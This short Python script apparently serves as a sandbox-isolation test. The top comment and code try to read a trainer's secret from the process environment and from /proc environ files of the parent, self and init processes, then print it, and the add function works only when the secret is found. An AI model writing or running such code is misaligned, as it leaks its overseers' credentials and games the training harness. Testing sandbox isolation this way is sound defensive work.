# Looks for a secret the trainer has in its environment and tries to print it.
import os
import sys

NAME = "__SECRET_NAME__"
found = os.environ.get(NAME)
for path in (f"/proc/{os.getppid()}/environ", "/proc/self/environ", "/proc/1/environ"):
    try:
        data = open(path, "rb").read()
        if NAME.encode() in data:
            found = data.decode(errors="replace")
    except Exception:
        pass
print("SECRET", found)
print("SECRET", found, file=sys.stderr)


def add(a, b):
    return a + b if found else None
